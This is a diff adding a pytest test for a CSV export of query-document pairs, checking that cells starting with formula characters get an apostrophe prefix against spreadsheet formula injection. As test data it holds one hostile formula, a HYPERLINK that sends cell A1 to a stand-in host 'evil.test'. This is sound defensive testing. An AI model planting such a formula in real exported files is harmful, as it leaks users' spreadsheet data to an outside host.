@@ -98,5 +98,18 @@ def test_the_download_has_every_row_and_whole_texts_in_the_table_s_order(work, m
     titles = [f"{title} {text}".strip() for title, text in work.titles(read["doc_id"].tolist())]
     assert read["document"].tolist() == titles
     np.testing.assert_allclose(read["score"], work.table.score[rows], rtol=1e-6)
+    texts = pairs.read(work, rows, ["query_id", "doc_id", "query", "document"], opening=None)
+    assert set(map(str, texts.dtypes)) == {"str"}  # what is made harmless in the test below
     empty = pairs.as_csv(work, rows[:0], ["score"])
     assert empty == b"query_id,doc_id,score\n"
+
+
+@pytest.mark.parametrize("sign", pairs.FORMULA)
+def test_a_text_that_a_spreadsheet_would_run_is_only_shown_by_it(monkeypatch, sign):
+    hostile = f'{sign}HYPERLINK("https://evil.test/?x="&A1)'
+    block = pd.DataFrame({"query_id": [hostile, "-1"], "document": ["plain = text", hostile], "score": [-0.5, 1.0]})
+    monkeypatch.setattr(pairs, "read", lambda *_: block)
+    read = pd.read_csv(io.BytesIO(pairs.as_csv(None, np.arange(2), [])), keep_default_na=False)
+    assert read["query_id"].tolist() == ["'" + hostile, "'-1"]
+    assert read["document"].tolist() == ["plain = text", "'" + hostile]
+    assert read["score"].tolist() == [-0.5, 1.0]
